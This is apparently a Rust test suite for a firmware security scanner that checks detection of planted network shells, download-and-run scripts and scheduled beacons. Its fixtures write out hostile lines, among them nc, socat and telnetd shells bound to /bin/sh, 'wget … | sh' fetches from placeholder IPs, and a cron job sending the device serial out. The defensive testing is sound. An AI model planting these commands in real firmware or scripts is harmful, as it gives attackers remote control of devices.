//! Services found by behaviour, whatever their name and however they are started: every
//! planted class comes in several variants (renamed binaries, other ports and shells, other
//! quoting and locations, through functions, variables, subshells, busybox applets and
//! sourced files, started by inittab, rcS, init.d links, procd, systemd, timers, cron and
//! inetd), and each finding's details are checked (port, line, what starts it and when).

#![allow(clippy::unwrap_used)]

use netvet_forge::tree::FsTree;
use netvet_inspect::{CheckOptions, CheckSet};
use netvet_model::{Finding, Service};

/// An ELF-looking busybox with an applet table.
fn busybox() -> Vec<u8> {
    let mut b = b"\x7fELF\x01\x01\x01\0".to_vec();
    b.extend_from_slice(b"BusyBox v1.36.1 (2024-01-01 00:00:00 UTC) multi-call binary.\0");
    b.extend_from_slice(b"\0[\0ash\0nc\0sh\0telnetd\0tftp\0wget\0");
    b
}

/// An ELF-looking telnet daemon under any name.
fn telnetd() -> Vec<u8> {
    let mut b = b"\x7fELF\x01\x01\x01\0".to_vec();
    b.extend_from_slice(b"usage: telnetd [-p port] [-l loginprog]\0/bin/login\0/dev/ptmx\0");
    b
}

fn base() -> FsTree {
    let mut t = FsTree::new();
    for d in ["etc", "bin", "sbin", "usr/bin", "usr/sbin", "tmp"] {
        t.dir(d, 0o755);
    }
    t.file("bin/busybox", 0o755, busybox());
    t
}

struct Scan {
    findings: Vec<Finding>,
    services: Vec<Service>,
    errors: Vec<String>,
}

fn scan(tree: &FsTree) -> Scan {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("fw.tar");
    std::fs::write(&path, netvet_forge::tar::write(tree)).unwrap();
    let image = netvet_unpack::open_path(&path, &netvet_unpack::Options::default()).unwrap();
    let set = CheckSet::new(CheckOptions {
        tags: Some(vec!["services".into()]),
        builtin_rules: false,
        ..CheckOptions::default()
    })
    .unwrap();
    let r = set.start().finish(&image);
    Scan {
        findings: r.findings,
        services: r.services,
        errors: r.errors,
    }
}

/// What a finding must say.
struct Want {
    check: &'static str,
    path: &'static str,
    line: u32,
    port: Option<u64>,
    started_by: &'static str,
    schedule: &'static str,
    /// A piece of the start chain.
    start: &'static str,
}

fn detail<'f>(f: &'f Finding, k: &str) -> Option<&'f serde_json::Value> {
    f.details.get(k)
}

fn assert_found(s: &Scan, w: &Want, variant: &str) {
    let f = s
        .findings
        .iter()
        .find(|f| f.check == w.check && f.location.path.ends_with(w.path))
        .unwrap_or_else(|| {
            panic!(
                "{variant}: no {} at {}; found {:#?}; errors {:?}",
                w.check, w.path, s.findings, s.errors
            )
        });
    assert_eq!(f.location.line, Some(w.line), "{variant}: line");
    if let Some(p) = w.port {
        assert_eq!(
            detail(f, "port").and_then(|v| v.as_u64()),
            Some(p),
            "{variant}: port"
        );
    }
    assert_eq!(
        detail(f, "started_by").and_then(|v| v.as_str()),
        Some(w.started_by),
        "{variant}: started_by"
    );
    assert_eq!(
        detail(f, "schedule").and_then(|v| v.as_str()),
        Some(w.schedule),
        "{variant}: schedule"
    );
    let start = detail(f, "start").and_then(|v| v.as_str()).unwrap_or("");
    assert!(
        start.contains(w.start),
        "{variant}: start {start:?} lacks {:?}",
        w.start
    );
}

const UNAUTH: &str = "nv-service-unauthenticated-shell";
const BEACON: &str = "nv-net-beacon";
const CONTACT: &str = "nv-net-scheduled-contact";

#[test]
fn network_shells_are_found_whatever_starts_them_and_whatever_they_are_called() {
    let mut cases: Vec<(&str, FsTree, Want)> = Vec::new();

    let mut t = base();
    t.file(
        "etc/inittab",
        0o644,
        "::sysinit:/etc/init.d/rcS\n# debug\n::respawn:/usr/sbin/telnetd -F -l /bin/sh -p 2323\n",
    );
    t.symlink("usr/sbin/telnetd", "/bin/busybox");
    cases.push((
        "inittab respawn, applet link",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/inittab",
            line: 3,
            port: Some(2323),
            started_by: "inittab",
            schedule: "respawn",
            start: "/etc/inittab:3 (respawn)",
        },
    ));

    let mut t = base();
    t.file(
        "etc/init.d/S45remote",
        0o755,
        "#!/bin/sh\nD=/usr/sbin/utelnetd\nARGS=\"-p 9023 -l /bin/ash\"\nstart() {\n\t$D $ARGS &\n}\nstop() { killall utelnetd; }\ncase \"$1\" in\n  start) start ;;\n  stop) stop ;;\nesac\n",
    );
    cases.push((
        "S?? script, function and variables",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/init.d/S45remote",
            line: 5,
            port: Some(9023),
            started_by: "init-script",
            schedule: "boot",
            start: "S45remote (S?? script)",
        },
    ));

    let mut t = base();
    t.file("etc/inittab", 0o644, "::sysinit:/etc/init.d/rcS\n");
    t.file(
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nmount -a\nfor i in /etc/init.d/S??* ; do\n  [ -x \"$i\" ] && $i start\ndone\n",
    );
    t.file(
        "etc/init.d/S80diag",
        0o755,
        "#!/bin/sh\nif [ -e /etc/debug ]; then\n  ( /bin/busybox nc -ll -p 4444 -e '/bin/bash' ) &\nfi\n",
    );
    cases.push((
        "rcS glob loop, subshell, busybox nc applet",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/init.d/S80diag",
            line: 3,
            port: Some(4444),
            started_by: "init-script",
            schedule: "boot",
            start: "/etc/inittab:1 (sysinit) → /etc/init.d/rcS:4",
        },
    ));

    let mut t = base();
    t.file(
        "etc/crontabs/root",
        0o600,
        "# m h dom mon dow command\n@reboot socat TCP-LISTEN:5555,reuseaddr,fork EXEC:\"/bin/sh -i\",pty\n",
    );
    cases.push((
        "cron @reboot, socat",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/crontabs/root",
            line: 2,
            port: Some(5555),
            started_by: "cron",
            schedule: "boot (@reboot)",
            start: "/etc/crontabs/root:2",
        },
    ));

    let mut t = base();
    t.file("usr/bin/svcmgr", 0o755, busybox());
    t.file(
        "etc/rc.local",
        0o755,
        "#!/bin/sh\nexec /usr/bin/svcmgr telnetd -p 2424 -l /bin/sh\n",
    );
    cases.push((
        "renamed busybox copy, exec",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/rc.local",
            line: 2,
            port: Some(2424),
            started_by: "init-script",
            schedule: "boot",
            start: "/etc/rc.local (boot script)",
        },
    ));

    let mut t = base();
    t.file(
        "etc/init.d/rshell",
        0o755,
        "#!/bin/sh /etc/rc.common\nSTART=99\nUSE_PROCD=1\nPROG=/usr/sbin/telnetd\nstart_service() {\n\tprocd_open_instance\n\tprocd_set_param command \"$PROG\" -F\n\tprocd_append_param command -l /bin/sh -p 2525\n\tprocd_set_param respawn\n\tprocd_close_instance\n}\n",
    );
    t.symlink("etc/rc.d/S99rshell", "../init.d/rshell");
    t.symlink("usr/sbin/telnetd", "/bin/busybox");
    cases.push((
        "procd instance, appended parameters",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/init.d/rshell",
            line: 7,
            port: Some(2525),
            started_by: "procd",
            schedule: "boot",
            start: "/etc/rc.d/S99rshell (rc link) → procd instance /etc/init.d/rshell:7",
        },
    ));

    let mut t = base();
    t.file(
        "lib/systemd/system/diag.service",
        0o644,
        "[Unit]\nDescription=diag\n[Service]\nExecStart=/bin/sh -c 'exec /usr/sbin/in.telnetd -debug 2626 -L /bin/sh'\n[Install]\nWantedBy=multi-user.target\n",
    );
    t.symlink(
        "etc/systemd/system/multi-user.target.wants/diag.service",
        "/lib/systemd/system/diag.service",
    );
    t.file("usr/sbin/in.telnetd", 0o755, telnetd());
    t.file("usr/sbin/dbgd", 0o755, telnetd());
    t.file(
        "etc/inittab",
        0o644,
        "ttyS0::respawn:/usr/sbin/dbgd -p 2727 -l /bin/sh\n",
    );
    cases.push((
        "renamed telnetd recognised by content",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/inittab",
            line: 1,
            port: Some(2727),
            started_by: "inittab",
            schedule: "respawn",
            start: "/etc/inittab:1 (respawn)",
        },
    ));

    let mut t = base();
    t.file(
        "etc/inetd.conf",
        0o644,
        "# inetd\nshell stream tcp nowait root /bin/sh sh -i\n",
    );
    cases.push((
        "inetd hands a socket to a shell",
        t,
        Want {
            check: UNAUTH,
            path: "/etc/inetd.conf",
            line: 2,
            port: Some(514),
            started_by: "inetd",
            schedule: "on connection to port 514",
            start: "/etc/inetd.conf:2",
        },
    ));

    for (variant, tree, want) in &cases {
        let s = scan(tree);
        assert_found(&s, want, variant);
    }
    assert!(cases.len() >= 5);
}

#[test]
fn renamed_programs_say_how_they_were_recognised() {
    let mut t = base();
    t.file("usr/sbin/dbgd", 0o755, telnetd());
    t.file(
        "etc/inittab",
        0o644,
        "::respawn:/usr/sbin/dbgd -p 2727 -l /bin/sh\n",
    );
    let s = scan(&t);
    let f = s.findings.iter().find(|f| f.check == UNAUTH).unwrap();
    assert_eq!(
        detail(f, "identified_by").and_then(|v| v.as_str()),
        Some("/usr/sbin/dbgd is telnetd by its content")
    );
    // The same program with a login program is telnet, not a shell.
    let mut t = base();
    t.file("usr/sbin/dbgd", 0o755, telnetd());
    t.file(
        "etc/inittab",
        0o644,
        "::respawn:/usr/sbin/dbgd -p 2727 -l /bin/login\n",
    );
    let s = scan(&t);
    let checks: Vec<&str> = s.findings.iter().map(|f| f.check.as_str()).collect();
    assert_eq!(checks, ["nv-service-telnet"]);
}

#[test]
fn download_and_execute_is_found_across_statements() {
    let mut cases: Vec<(&str, FsTree, Want, &str)> = Vec::new();

    let mut t = base();
    t.file(
        "etc/crontabs/root",
        0o600,
        "*/10 * * * * wget -qO- http://203.0.113.5/a | sh\n",
    );
    cases.push((
        "cron, piped into sh",
        t,
        Want {
            check: BEACON,
            path: "/etc/crontabs/root",
            line: 1,
            port: None,
            started_by: "cron",
            schedule: "cron */10 * * * *",
            start: "/etc/crontabs/root:1",
        },
        "http://203.0.113.5/a",
    ));

    let mut t = base();
    t.file(
        "etc/init.d/S90upd",
        0o755,
        "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/u.sh\nchmod +x u.sh\n./u.sh &\n",
    );
    cases.push((
        "init script, saved then run",
        t,
        Want {
            check: BEACON,
            path: "/etc/init.d/S90upd",
            line: 3,
            port: None,
            started_by: "init-script",
            schedule: "boot",
            start: "S90upd (S?? script)",
        },
        "http://198.51.100.7/u.sh",
    ));

    let mut t = base();
    t.file(
        "etc/periodic/hourly/sync",
        0o755,
        "#!/bin/sh\nOUT=/var/run/sync.sh\ncurl -fs -o \"$OUT\" 'https://cdn.example.net/sync'\n. \"$OUT\"\n",
    );
    cases.push((
        "periodic hourly, curl -o then sourced",
        t,
        Want {
            check: BEACON,
            path: "/etc/periodic/hourly/sync",
            line: 3,
            port: None,
            started_by: "cron",
            schedule: "hourly",
            start: "/etc/periodic/hourly (run-parts)",
        },
        "https://cdn.example.net/sync",
    ));

    let mut t = base();
    t.file(
        "lib/systemd/system/fw-pull.timer",
        0o644,
        "[Timer]\nOnCalendar=daily\n[Install]\nWantedBy=timers.target\n",
    );
    t.file(
        "lib/systemd/system/fw-pull.service",
        0o644,
        "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'tftp -g -r p.sh -l /tmp/p 192.0.2.1 && sh /tmp/p'\n",
    );
    t.symlink(
        "etc/systemd/system/timers.target.wants/fw-pull.timer",
        "/lib/systemd/system/fw-pull.timer",
    );
    cases.push((
        "systemd timer, tftp then sh",
        t,
        Want {
            check: BEACON,
            path: "/lib/systemd/system/fw-pull.service",
            line: 3,
            port: None,
            started_by: "systemd",
            schedule: "timer OnCalendar=daily",
            start: "fw-pull.timer (timer)",
        },
        "tftp://192.0.2.1/p.sh",
    ));

    let mut t = base();
    t.file(
        "etc/rc.local",
        0o755,
        "#!/bin/sh\nU=http://192.0.2.9/x\nsh -c \"$(curl -fsSL $U)\"\nexit 0\n",
    );
    cases.push((
        "rc.local, command substitution with a variable",
        t,
        Want {
            check: BEACON,
            path: "/etc/rc.local",
            line: 3,
            port: None,
            started_by: "init-script",
            schedule: "boot",
            start: "/etc/rc.local (boot script)",
        },
        "http://192.0.2.9/x",
    ));

    let mut t = base();
    t.file(
        "lib/upd.sh",
        0o644,
        "fetch_run() {\n  busybox wget -O /tmp/p \"$1\"\n  sh /tmp/p\n}\n",
    );
    t.file(
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\n. /lib/upd.sh\nfetch_run http://198.51.100.20/p\n",
    );
    cases.push((
        "function from a sourced file, busybox wget",
        t,
        Want {
            check: BEACON,
            path: "/lib/upd.sh",
            line: 2,
            port: None,
            started_by: "init-script",
            schedule: "boot",
            start: "/etc/init.d/rcS (boot script)",
        },
        "http://198.51.100.20/p",
    ));

    for (variant, tree, want, url) in &cases {
        let s = scan(tree);
        assert_found(&s, want, variant);
        let f = s.findings.iter().find(|f| f.check == BEACON).unwrap();
        assert_eq!(
            detail(f, "url").and_then(|v| v.as_str()),
            Some(*url),
            "{variant}"
        );
    }
}

#[test]
fn fixed_hosts_contacted_on_a_schedule() {
    let cases: Vec<(&str, &str, &str, &str, &str)> = vec![
        (
            "etc/crontabs/root",
            "0 * * * * wget -q -O /dev/null \"http://192.0.2.44/hb?id=$(cat /etc/serial)\"\n",
            "hourly",
            "cron",
            "http://192.0.2.44/hb?id=$(…)",
        ),
        (
            "etc/cron.d/report",
            "SHELL=/bin/sh\n15 3 * * * root curl -s -d @/tmp/stats https://telemetry.example.com/up >/dev/null 2>&1\n",
            "cron 15 3 * * *",
            "cron",
            "https://telemetry.example.com/up",
        ),
        (
            "etc/periodic/daily/ping",
            "#!/bin/sh\nuclient-fetch -q -O /tmp/v http://198.51.100.3/version\n",
            "daily",
            "cron",
            "http://198.51.100.3/version",
        ),
        (
            "etc/init.d/S99phone",
            "#!/bin/sh\n(sleep 60; busybox wget -q -O - http://203.0.113.77/boot > /dev/null) &\n",
            "boot",
            "init-script",
            "http://203.0.113.77/boot",
        ),
        (
            "etc/crontab",
            "*/30 * * * * nobody ftpget -u a -p b 198.51.100.8 /tmp/cfg cfg.txt\n",
            "cron */30 * * * *",
            "cron",
            "ftp://198.51.100.8/cfg.txt",
        ),
    ];
    for (path, text, schedule, started_by, destination) in cases {
        let mut t = base();
        t.file(path, 0o755, text);
        let s = scan(&t);
        let f = s
            .findings
            .iter()
            .find(|f| f.check == CONTACT)
            .unwrap_or_else(|| panic!("{path}: {:#?} {:?}", s.findings, s.errors));
        assert_eq!(
            detail(f, "destination").and_then(|v| v.as_str()),
            Some(destination),
            "{path}"
        );
        assert_eq!(
            detail(f, "schedule").and_then(|v| v.as_str()),
            Some(schedule),
            "{path}"
        );
        assert_eq!(
            detail(f, "started_by").and_then(|v| v.as_str()),
            Some(started_by),
            "{path}"
        );
        assert!(!s.findings.iter().any(|f| f.check == BEACON), "{path}");
    }
}

#[test]
fn what_is_not_run_or_not_a_shell_is_not_reported() {
    let mut t = base();
    // A script present but never enabled, a function never called, a fetch never run,
    // and a telnetd that asks for a login.
    t.file(
        "etc/init.d/backdoor",
        0o755,
        "#!/bin/sh\ntelnetd -l /bin/sh -p 2323\n",
    );
    t.file(
        "etc/init.d/S10fw",
        0o755,
        "#!/bin/sh\nunused() { nc -l -p 1 -e /bin/sh; }\nwget -q http://example.org/fw.bin -O /tmp/fw.bin\nmd5sum /tmp/fw.bin\ntelnetd -l /bin/login\n",
    );
    let s = scan(&t);
    let checks: Vec<(&str, String)> = s
        .findings
        .iter()
        .map(|f| (f.check.as_str(), f.location.path.clone()))
        .collect();
    assert!(
        checks.iter().all(|(c, _)| *c != UNAUTH && *c != BEACON),
        "{checks:?}"
    );
    // Still inventoried, as not enabled.
    assert!(
        s.services
            .iter()
            .any(|sv| sv.started_by == "init-script (not enabled)"
                && sv.ports.first().map(|p| p.number) == Some(2323))
    );
}

#[test]
fn inventory_names_programs_ports_from_configuration_and_starters() {
    let mut t = base();
    t.file(
        "etc/inetd.conf",
        0o644,
        "telnet stream tcp nowait root /usr/sbin/tcpd /usr/sbin/in.telnetd\n8080 stream tcp nowait root /usr/sbin/webadm webadm\n",
    );
    t.file(
        "etc/lighttpd/lighttpd.conf",
        0o644,
        "server.document-root = \"/www\"\nserver.port = 8081\n",
    );
    t.file(
        "etc/config/uhttpd",
        0o644,
        "config uhttpd 'main'\n\tlist listen_http '0.0.0.0:8088'\n",
    );
    t.file(
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nstart-stop-daemon -S -b -x /usr/sbin/lighttpd -- -f /etc/lighttpd/lighttpd.conf\n/usr/sbin/uhttpd -h /www\n/usr/sbin/dropbear -p 2222 -w\n",
    );
    let s = scan(&t);
    let mut got: Vec<(String, Option<u16>, String)> = s
        .services
        .iter()
        .map(|sv| {
            (
                sv.name.clone(),
                sv.ports.first().map(|p| p.number),
                sv.started_by.clone(),
            )
        })
        .collect();
    got.sort();
    assert_eq!(
        got,
        [
            ("http".to_string(), Some(8081), "init-script".to_string()),
            ("http".into(), Some(8088), "init-script".into()),
            ("ssh".into(), Some(2222), "init-script".into()),
            ("telnet".into(), Some(23), "inetd".into()),
            ("webadm".into(), Some(8080), "inetd".into()),
        ]
    );
    let lighttpd = s
        .services
        .iter()
        .find(|sv| sv.ports[0].number == 8081)
        .unwrap();
    assert_eq!(lighttpd.binary.as_deref(), Some("/usr/sbin/lighttpd"));
    assert_eq!(lighttpd.schedule.as_deref(), Some("boot"));
    assert_eq!(
        lighttpd.start.as_deref(),
        Some("/etc/init.d/rcS (boot script)")
    );
    let telnet = s.services.iter().find(|sv| sv.name == "telnet").unwrap();
    assert_eq!(telnet.schedule.as_deref(), Some("on connection to port 23"));
    assert_eq!(telnet.start.as_deref(), Some("/etc/inetd.conf:1"));
}

#[test]
fn unparsable_scripts_are_warnings_naming_file_and_line() {
    let mut t = base();
    t.file(
        "etc/init.d/rcS",
        0o755,
        "#!/bin/sh\nif true; then\n  telnetd -l /bin/sh -p 2525\n",
    );
    let s = scan(&t);
    assert!(
        s.errors
            .iter()
            .any(|e| e.contains("etc/init.d/rcS: shell syntax: line 4")
                && e.contains("expected `fi`")),
        "{:?}",
        s.errors
    );
    // What parses alone is still read.
    assert!(
        s.findings
            .iter()
            .any(|f| f.check == UNAUTH && f.location.line == Some(3))
    );
}

#[test]
fn a_script_reached_first_from_a_disabled_one_is_still_started() {
    let mut t = base();
    t.file("etc/init.d/aaa", 0o755, "#!/bin/sh\n/etc/init.d/zz start\n");
    t.file(
        "etc/init.d/zz",
        0o755,
        "#!/bin/sh\nnc -l -p 5151 -e /bin/sh &\n",
    );
    t.symlink("etc/rc.d/S50zz", "../init.d/zz");
    let s = scan(&t);
    assert_found(
        &s,
        &Want {
            check: UNAUTH,
            path: "/etc/init.d/zz",
            line: 2,
            port: Some(5151),
            started_by: "init-script",
            schedule: "boot",
            start: "/etc/rc.d/S50zz (rc link)",
        },
        "disabled caller first",
    );
}
